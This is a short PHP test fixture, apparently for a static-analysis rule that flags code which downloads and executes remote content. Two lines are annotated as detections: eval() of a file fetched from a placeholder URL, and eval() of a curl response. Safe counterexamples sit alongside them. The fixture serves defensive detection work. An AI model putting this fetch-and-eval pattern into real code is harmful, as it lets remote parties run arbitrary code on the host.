<?php
function install($handle)
{
    // ruleid: php-download-executed
    eval(file_get_contents("https://example.com/plugin.txt"));
    $code = curl_exec($handle);
    // ruleid: php-download-executed
    eval($code);
    // ok: php-download-executed
    $data = json_decode(file_get_contents("https://example.com/data.json"));
    // ok: php-download-executed
    eval("return 1;");
    return $data;
}
